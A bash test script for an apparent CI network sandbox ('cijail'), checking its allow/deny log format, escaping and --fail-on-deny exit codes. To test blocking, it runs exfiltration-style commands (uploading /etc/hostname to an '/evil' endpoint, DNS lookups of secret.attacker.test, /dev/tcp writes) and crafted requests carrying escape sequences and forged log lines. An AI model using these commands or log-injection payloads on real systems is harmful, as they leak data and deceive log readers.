#!/usr/bin/env bash
# The log: form, verbosity, files, folding, escaping; and --fail-on-deny.
. "$(dirname "$0")/../lib/lib.sh"
in_test_internet "$@"
stamp='^\[(Sun|Mon|Tue|Wed|Thu|Fri|Sat) (Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Oct|Nov|Dec) [0-9]{2} [0-9]{2}:[0-9]{2}:[0-9]{2} [0-9]{4}\] cijail: '
python_json='
import json, sys
for line in open(sys.argv[1]):
    o = json.loads(line)
    print(" ".join(str(o.get(k, "-")) for k in sys.argv[2:]))'

t_case 'the form of each kind of line'
run cijail -v -e 'GET:https://registry.example/pkg/' -- sh -c 'curl -s https://registry.example/pkg/lodash; curl -s -o /dev/null -T /etc/hostname https://registry.example/evil; dig secret.attacker.test A; python3 '"$T_LIB"'/connect.py tcp 1.1.1.1 53'
t_match "$err" "${stamp}allow 200 GET https://registry\\.example/pkg/lodash\$"
t_match "$err" "${stamp}deny - PUT https://registry\\.example/evil\$"
t_match "$err" "${stamp}deny resolve secret\\.attacker\\.test A\$"
t_match "$err" "${stamp}deny connect 1\\.1\\.1\\.1:53\$"

t_case 'without -v: denials, each once, its count at the end, and a closing line'
run cijail -e https://registry.example/pkg/ -- sh -c 'curl -s https://registry.example/pkg/lodash; for i in 1 2 3; do curl -s -o /dev/null https://registry.example/no; done; curl -s -o /dev/null https://registry.example/other'
t_eq "$out" 'a package'
t_count 0 "$err" ' allow '
t_count 2 "$err" 'deny - GET https://registry\.example/no( |$)'
t_count 1 "$err" 'deny - GET https://registry\.example/no \(3 times\)$'
t_count 1 "$err" 'deny - GET https://registry\.example/other$'
t_match "$(tail -n 1 <<<"$err")" "${stamp}[0-9]+ allowed, 4 denied\$"

t_case 'with -v: all of them, every time'
run cijail -v -e https://registry.example/pkg/ -- sh -c 'for i in 1 2 3; do curl -s -o /dev/null https://registry.example/no; done'
t_count 3 "$err" 'deny - GET https://registry\.example/no$'

t_case 'the status that upstream gave'
run cijail -v -e https://registry.example/ -- curl -s -o /dev/null https://registry.example/status/404
t_match "$err" 'allow 404 GET https://registry\.example/status/404$'

t_case 'with -q: nothing, but errors'
run cijail -q -- curl -s https://secret.attacker.test/
t_eq "$err" ''
run cijail -q -- dig secret.attacker.test
t_eq "$err" ''
run cijail -q -- /nonexistent
t_match "$err" 'nonexistent'

t_case 'nothing allowed and nothing denied: no line'
run cijail -- true
t_eq "$err" ''

t_case '--log FILE: appended, and nothing on standard error'
run cijail --log ./log -- curl -s https://one.attacker.test/
t_eq "$err" ''
run cijail --log=./log -- curl -s https://two.attacker.test/
t_match "$(cat log)" "${stamp}deny .*one\\.attacker\\.test"
t_match "$(cat log)" "${stamp}deny .*two\\.attacker\\.test"
run cijail --log /nonexistent/log -- touch ran
t_status 125
t_match "$err" '/nonexistent/log'
t_false test -e ran

t_case '--log-format json'
run cijail -v --log ./json --log-format json -e 'GET:https://registry.example/pkg/' -- sh -c 'curl -s https://registry.example/pkg/lodash; curl -s -o /dev/null -T /etc/hostname https://registry.example/evil; dig secret.attacker.test TXT; python3 '"$T_LIB"'/connect.py tcp 1.1.1.1 53'
run python3 -c "$python_json" json decision dry_run kind method url status name type address port protocol
t_status 0
t_match "$out" '^allow False request GET https://registry\.example/pkg/lodash 200 - - - - -$'
t_match "$out" '^deny False request PUT https://registry\.example/evil - - - - - -$'
t_match "$out" '^deny False resolve - - - secret\.attacker\.test TXT - - -$'
t_match "$out" '^deny False connect - - - - - 1\.1\.1\.1 53 tcp$'
run python3 -c "$python_json" json time decision kind endpoint bytes_received reason
t_match "$out" '^20[0-9]{2}-[0-9]{2}-[0-9]{2}T[0-9:]{8}Z allow request GET:https://registry\.example/pkg/ 10'

t_case 'no byte that the jail chose reaches the log unescaped'
cat >escape.py <<'END'
import os, socket
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["http_proxy"])
for line in (b"GET http://evil.example/\x1b[31mred HTTP/1.1\r\nHost: evil.example\r\n\r\n",
             b"GET http://evil.example/\xe2\x80\xaeright HTTP/1.1\r\nHost: evil.example\r\n\r\n",
             b"GET http://evil.example/a%1b%5b31m%0a[forged] HTTP/1.1\r\nHost: evil.example\r\n\r\n",
             b"GET http://evil\x07.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
             b"G\x1bT http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
             b"CONNECT evil\x1b]0;title\x07.example:443 HTTP/1.1\r\nHost: x\r\n\r\n"):
    s = socket.create_connection((proxy.hostname, proxy.port), 5)
    s.sendall(line)
    print(s.recv(10000).split(b"\r\n")[0].decode())
    s.close()
name = b"\x1b[31m\n[x] cijail: allow"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.sendto(b"\0\7\1\0\0\1\0\0\0\0\0\0" + bytes([len(name)]) + name + b"\4evil\0\0\1\0\1", (proxy.hostname, 53))
print("rcode", s.recv(1000)[3] & 15)
END
for format in text json; do
    for verbose in '' -v; do
        # shellcheck disable=SC2086
        run cijail $verbose --log-format $format -e https://registry.example/ -- python3 escape.py
        t_status 0
        t_count 6 "$out" '^HTTP/1.1 4'
        t_true test "$(tr -d '\11\12\40-\176' <"$T_TMP/err" | wc -c)" = 0
        if [[ $format == text ]]; then
            t_eq "$(grep -vcE "$stamp" <<<"$err")" 0
        else
            t_true python3 -c 'import json, sys; [json.loads(l) for l in open(sys.argv[1])]' "$T_TMP/err"
        fi
    done
done

t_case '--fail-on-deny: 98 only if something was denied and the command succeeded'
run cijail --fail-on-deny -- true
t_status 0
run cijail --fail-on-deny -- sh -c 'curl -s https://secret.attacker.test/; true'
t_status 98
run cijail --fail-on-deny -- sh -c 'curl -s https://secret.attacker.test/; exit 3'
t_status 3
run cijail --fail-on-deny -- sh -c 'dig +short secret.attacker.test; true'
t_status 98
run cijail --fail-on-deny -- sh -c 'python3 '"$T_LIB"'/connect.py udp 1.1.1.1 123; true'
t_status 98
run cijail --fail-on-deny -q -- sh -c 'curl -s https://secret.attacker.test/; true'
t_status 98
run cijail -- sh -c 'curl -s https://secret.attacker.test/; true'
t_status 0
run cijail --fail-on-deny -e https://registry.example/ -- sh -c 'curl -s -o /dev/null https://registry.example/status/404'
t_status 0

t_case 'a denial in the last moment of the command is still in the log'
for i in 1 2 3 4 5; do
    run cijail -- python3 -c 'import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("198.51.100.66", 999)); s.send(b"x")'
    t_match "$err" 'deny connect 198\.51\.100\.66:999'
done

t_case 'and so is one behind a flood of questions, which the supervisor has not read yet'
for i in 1 2 3 4 5; do
    run cijail --fail-on-deny -e '*.wild.example' -- python3 -c 'import os, socket, struct
server = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver") and ":" not in l][0]
s, last = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(2)]
s.connect((server, 53)); last.connect((server, 53)); last.settimeout(2)
def question(name):
    return struct.pack("!6H", 1, 256, 1, 0, 0, 0) + b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0\0\1\0\1"
for q in [question("a%d.%s.wild.example" % (i, "x" * 60)) for i in range(4000)]: s.send(q)
for i in range(100): # one may find no room
    last.send(question("secret.denied.example"))
    try: last.recv(512)
    except OSError: continue
    os._exit(0)'
    t_status 98
    t_match "$err" 'deny resolve secret\.denied\.example'
done

t_case 'a flood of distinct denials is bounded, and does not stop the build'
run cijail -- python3 -c 'import socket
for i in range(20000):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: s.sendto(b"x", ("198.51.100.%d" % (i % 250), 1 + i % 60000))
    except OSError: pass
    s.close()
print("done")'
t_eq "$out" 'done'
t_true test "$(wc -l <<<"$err")" -le 2100
t_true test "$(grep -c 'deny connect' <<<"$err")" -ge 100

t_case 'what the command says last, before it ends, is judged and in the log, also where that starts the proxy'
for host in denied.example registry.example; do
    run cijail --fail-on-deny -v -e http://registry.example/ -- \
        bash -c "printf 'GET http://$host/x HTTP/1.1\r\nHost: $host\r\n\r\n' >/dev/tcp/192.0.0.1/3128"
    if [[ $host == denied* ]]; then
        t_status 98
        t_match "$err" ' cijail: deny - GET http://denied\.example/x$'
    else
        t_status 0
        t_match "$err" ' cijail: allow .* GET http://registry\.example/x'
    fi
    t_no_match "$err" 'did not end in time'
done

t_case 'a log that the command cuts or replaces is not taken for whole; the twin: others append'
for change in ': >own.log' 'rm own.log' 'mv own.log away.log; echo forged >own.log' 'cp own.log copy.log; mv copy.log own.log'; do
    rm -f own.log
    echo 'of before' >own.log
    run cijail -v -e registry.example --log own.log -- sh -c "getent ahosts registry.example >/dev/null; $change"
    t_status 125
    t_match "$err" 'cijail: the log own\.log was cut or replaced while the command ran'
done
rm -f own.log
run cijail -v -e registry.example --log own.log -- sh -c 'getent ahosts registry.example >/dev/null; echo more >>own.log'
t_status 0
t_eq "$err" ''
t_match "$(<own.log)" 'allow resolve registry\.example'

t_done
